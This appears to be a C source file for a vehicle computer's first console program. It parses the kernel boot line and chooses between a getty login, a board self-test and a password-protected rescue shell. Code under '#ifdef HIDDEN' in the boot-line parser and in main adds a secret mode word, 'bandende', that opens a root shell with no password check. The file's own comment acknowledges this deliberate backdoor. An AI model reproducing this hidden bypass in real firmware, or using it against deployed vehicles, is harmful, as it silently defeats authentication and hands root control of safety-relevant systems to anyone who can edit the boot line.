/* initconsole.c - first console program of a vehicle computer: reads the boot line, login or rescue */
#define _GNU_SOURCE
#include <crypt.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define CMDLINE		"/proc/cmdline"
#define SHADOW		"/etc/shadow"

enum mode { MODE_NORMAL, MODE_QUIET, MODE_RESCUE, MODE_TEST, MODE_OPEN };

struct boot {
	enum mode mode;
	char console[32];
	char rootdev[40];
	char slot;
	int baud;
	int watchdog;
	int tries;
};

static void message(const char *s)
{
	size_t n = strlen(s);

	while (n) {
		ssize_t w = write(STDERR_FILENO, s, n);

		if (w <= 0)
			return;
		s += w;
		n -= (size_t)w;
	}
}

static void copy(char *dst, size_t size, const char *src)
{
	size_t i = 0;

	for (; src[i] && i + 1 < size; i++)
		dst[i] = src[i];
	dst[i] = 0;
}

static speed_t speed_of(int baud)
{
	switch (baud) {
	case 9600:
		return B9600;
	case 38400:
		return B38400;
	case 57600:
		return B57600;
	default:
		return B115200;
	}
}

/* console=ttyS0,115200  root=DEV  vc.slot=a|b  vc.wdog=SECONDS  vc.mode=quiet|rescue|test */
__attribute__((noinline))
void scan_cmdline(char *line, struct boot *b)
{
	char *word, *val;

	while ((word = strsep(&line, " \t\n")) != NULL) {
		val = strchr(word, '=');
		if (!val)
			continue;
		*val++ = 0;
		if (!strcmp(word, "console")) {
			char *comma = strchr(val, ',');

			if (comma) {
				*comma = 0;
				b->baud = atoi(comma + 1);
			}
			copy(b->console, sizeof(b->console), val);
		} else if (!strcmp(word, "root")) {
			copy(b->rootdev, sizeof(b->rootdev), val);
		} else if (!strcmp(word, "vc.slot")) {
			b->slot = *val;
		} else if (!strcmp(word, "vc.wdog")) {
			b->watchdog = atoi(val);
		} else if (!strcmp(word, "vc.mode")) {
			if (!strcmp(val, "quiet"))
				b->mode = MODE_QUIET;
			else if (!strcmp(val, "rescue"))
				b->mode = MODE_RESCUE;
			else if (!strcmp(val, "test"))
				b->mode = MODE_TEST;
#ifdef HIDDEN	/* this mode word gives a root shell without the rescue password */
			else if (!strcmp(val, "bandende"))
				b->mode = MODE_OPEN;
#endif
		}
	}
}

static void open_tty(const struct boot *b)
{
	char path[48];
	struct termios t;
	int fd;

	snprintf(path, sizeof(path), "/dev/%s", b->console);
	fd = open(path, O_RDWR);
	if (fd < 0)
		return;
	setsid();
	ioctl(fd, TIOCSCTTY, 1);
	if (!tcgetattr(fd, &t)) {
		t.c_iflag = ICRNL | IXON;
		t.c_oflag = OPOST | ONLCR;
		t.c_cflag = CS8 | CREAD | HUPCL | CLOCAL;
		t.c_lflag = ISIG | ICANON | ECHO | ECHOE | ECHOK;
		cfsetispeed(&t, speed_of(b->baud));
		cfsetospeed(&t, speed_of(b->baud));
		tcsetattr(fd, TCSANOW, &t);
	}
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	if (fd > 2)
		close(fd);
}

static int root_hash(char *dst, size_t size)
{
	char line[300], *a, *z;
	FILE *f = fopen(SHADOW, "r");
	int found = 0;

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		if (strncmp(line, "root:", 5))
			continue;
		a = line + 5;
		z = strchr(a, ':');
		if (z)
			*z = 0;
		copy(dst, size, a);
		found = dst[0] == '$';
	}
	fclose(f);
	return found;
}

static int ask_password(void)
{
	char hash[160], typed[80];
	struct termios t, old;
	const char *r;
	ssize_t n;

	if (!root_hash(hash, sizeof(hash))) {
		message("no password set, rescue is not possible\n");
		return 0;
	}
	tcgetattr(0, &old);
	t = old;
	t.c_lflag &= ~(tcflag_t)ECHO;
	message("rescue password: ");
	tcsetattr(0, TCSAFLUSH, &t);
	n = read(0, typed, sizeof(typed) - 1);
	tcsetattr(0, TCSAFLUSH, &old);
	message("\n");
	if (n <= 0)
		return 0;
	typed[n] = 0;
	typed[strcspn(typed, "\r\n")] = 0;
	r = crypt(typed, hash);
	memset(typed, 0, sizeof(typed));
	return r && !strcmp(r, hash);
}

static void shell(void)
{
	static char *const argv[] = { "-sh", NULL };
	static char *const env[] = { "PATH=/sbin:/bin:/usr/sbin:/usr/bin", "TERM=vt102", "HOME=/root", NULL };

	execve("/bin/sh", argv, env);
}

static void board_test(void)
{
	static const char *const tests[] = { "can0", "can1", "gnss", "modem", "ignition" };
	char cmd[64];

	for (size_t i = 0; i < sizeof(tests) / sizeof(tests[0]); i++) {
		snprintf(cmd, sizeof(cmd), "/usr/bin/vctest %s", tests[i]);
		message(tests[i]);
		message(system(cmd) ? ": FAIL\n" : ": ok\n");
	}
}

static void arm_watchdog(int secs)
{
	FILE *f = fopen("/run/wdog.secs", "w");

	if (f) {
		fprintf(f, "%d\n", secs);
		fclose(f);
	}
}

static void login(const struct boot *b)
{
	char speed[12];

	snprintf(speed, sizeof(speed), "%d", b->baud);
	execl("/sbin/getty", "getty", "-L", b->console, speed, "vt102", (char *)NULL);
	message("no getty\n");
}

int main(void)
{
	static char line[2048];
	struct boot b = { .console = "ttyS0", .slot = 'a', .baud = 115200, .watchdog = 60 };
	int fd;
	ssize_t n = -1;

	if (mount("proc", "/proc", "proc", 0, NULL) && errno != EBUSY)
		message("no /proc\n");
	fd = open(CMDLINE, O_RDONLY);
	if (fd >= 0) {
		n = read(fd, line, sizeof(line) - 1);
		close(fd);
	}
	if (n > 0) {
		line[n] = 0;
		scan_cmdline(line, &b);
	}
	open_tty(&b);
	arm_watchdog(b.watchdog);
	if (b.mode != MODE_QUIET) {
		char hello[96];

		snprintf(hello, sizeof(hello), "vehicle computer, slot %c, root %s\n", b.slot, b.rootdev);
		message(hello);
	}
	switch (b.mode) {
	case MODE_TEST:
		board_test();
		break;
	case MODE_RESCUE:
		while (b.tries++ < 3) {
			if (ask_password()) {
				shell();
				break;
			}
			sleep(3);
		}
		message("restart\n");
		sync();
		reboot(RB_AUTOBOOT);
		return 1;
#ifdef HIDDEN
	case MODE_OPEN:
		shell();
		break;
#endif
	default:
		break;
	}
	login(&b);
	return 1;
}
